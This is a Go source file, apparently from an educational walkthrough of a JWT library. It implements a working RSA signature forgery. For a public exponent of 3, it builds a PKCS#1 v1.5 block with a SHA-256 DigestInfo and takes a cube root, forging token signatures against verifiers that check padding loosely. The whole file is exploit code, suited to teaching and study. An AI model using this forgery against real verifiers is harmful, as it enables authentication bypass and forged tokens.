package main

import (
	"crypto/rsa"
	"crypto/sha256"
	"math/big"

	"example.com/glassjwt/jwt"
	"example.com/glassjwt/walkthrough/internal/lesson"
	"example.com/glassjwt/walkthrough/internal/story"
)

// forge returns the cube root of a block that begins well,
//
//	00 01 ff ff ff ff ff ff ff ff 00 DigestInfo H, and then anything
//
// rounded up. The cubes lie close enough together for the anything to
// take up the rounding.
func forge(key *rsa.PublicKey, header, payload string) []byte {
	u := lesson.Must(jwt.Parse(story.Compact(header, payload, nil)))
	hash := sha256.Sum256([]byte(u.SigningInput()))
	start := []byte("\x00\x01\xff\xff\xff\xff\xff\xff\xff\xff\x00")
	start = append(append(start, digestInfo...), hash[:]...)
	block := make([]byte, key.Size())
	copy(block, start)
	root := cubeRoot(new(big.Int).SetBytes(block))
	return root.FillBytes(make([]byte, key.Size()))
}

// cubeRoot returns the smallest s with s^3 >= m, bit by bit.
func cubeRoot(m *big.Int) *big.Int {
	three := big.NewInt(3)
	s := new(big.Int)
	for bit := m.BitLen()/3 + 1; bit >= 0; bit-- {
		s.SetBit(s, bit, 1)
		if new(big.Int).Exp(s, three, nil).Cmp(m) >= 0 {
			s.SetBit(s, bit, 0)
		}
	}
	return s.Add(s, big.NewInt(1))
}
